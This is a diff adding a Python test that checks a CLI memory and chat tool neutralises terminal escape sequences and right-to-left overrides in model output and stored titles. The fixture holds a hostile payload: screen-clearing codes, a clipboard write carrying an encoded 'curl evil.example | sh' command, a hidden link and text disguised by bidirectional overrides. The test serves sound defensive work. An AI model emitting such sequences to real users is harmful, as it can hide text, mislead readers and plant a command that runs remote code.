@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import subprocess
 import sys
 import time
@@ -211,3 +212,40 @@ def test_memory_search_asked_for_more_results_than_there_are_gives_them_all(home
         for mode in ("keyword", "hybrid"):
             r = cli(home, "memory", "search", "garage door code", "--mode", mode, "-k", k)
             assert r.returncode == 0 and len(json.loads(r.stdout)) == 3, (k, mode, r.returncode, r.stderr[-400:])
+
+
+# ESC [ (CSI: clear the screen), OSC 52 (write the clipboard), OSC 8 (a hidden link), a lone carriage return (the
+# line rewritten), an 8-bit CSI, a right-to-left override
+HOSTILE_TERMINAL = ("The garage code is 5812 [1].\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+                    "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07\rAll good, nothing to see.\x9b31m \u202eedon")
+ACTS_ON_A_TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\r")
+
+
+def test_what_a_model_or_a_stranger_wrote_reaches_the_terminal_as_text(home, fake_model, script) -> None:
+    """`memory ask`, `conversations search` and `chat` printed a model's answer byte for byte: it could clear the
+    screen, write the clipboard, plant a hidden link or rewrite a line; and a mail subject or a page title holding a
+    right-to-left override made `memory pages` read otherwise ("Bank \u202edeifirev" shows as "Bank verified")."""
+    import wiki_engine
+    from wiki_engine import Page
+    from wiki_engine.render import Item
+
+    setup_agent(home, fake_model.base_url)
+    person = json.loads(cli(home, "person", "list", "--json").stdout)[0]
+    scope = f"private/{person['id']}"
+    assert cli(home, "memory", "search", "x").returncode == 0
+    with wiki_engine.open_memory(home / "memory", embedder=None) as mem:
+        sid = mem.add_items([Item("The garage door code is 5812.", scope, time.time(), kind="mail", key="m1",
+                                  subject="Bank notice \u202edeifirev\u202c")])[0]
+        mem.write_page(Page(title="Bank \u202edeifirev", scope=scope, category="money",
+                            body="- The garage door code is 5812 [1]", citations={1: sid}), author="agent:wiki-writer")
+    assert cli(home, "models", "set", "ask_memory", "fake/fake-1").returncode == 0
+    script([Text(HOSTILE_TERMINAL)], repeat_last=True)
+    printed = {what: cli(home, *what) for what in [("memory", "ask", "What is the garage door code?"),
+                                                   ("chat", "helper", "what is the garage code"),
+                                                   ("conversations", "search", "garage"),
+                                                   ("memory", "pages"), ("memory", "search", "garage door code")]}
+    for what, r in printed.items():
+        assert r.returncode == 0, (what, r.stderr)
+        assert "5812" in r.stdout or "Bank" in r.stdout or "garage" in r.stdout, (what, r.stdout)
+        assert not ACTS_ON_A_TERMINAL.search(r.stdout.replace("\n", "").replace("\t", "")), (what, repr(r.stdout))
+    assert "All good" in printed[("memory", "ask", "What is the garage door code?")].stdout  # shown, as text
